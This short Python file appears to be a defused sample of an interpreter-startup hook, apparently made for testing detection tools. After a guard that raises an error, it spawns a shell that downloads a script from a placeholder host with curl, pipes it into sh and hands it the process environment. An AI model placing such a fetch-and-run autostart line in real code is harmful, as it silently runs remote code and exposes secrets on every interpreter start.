"""Starts with every interpreter."""

import os
import subprocess

raise RuntimeError("inert sample: never run")

subprocess.Popen(["sh", "-c", "curl -s https://start.example.invalid/s.sh | sh"], env=os.environ)
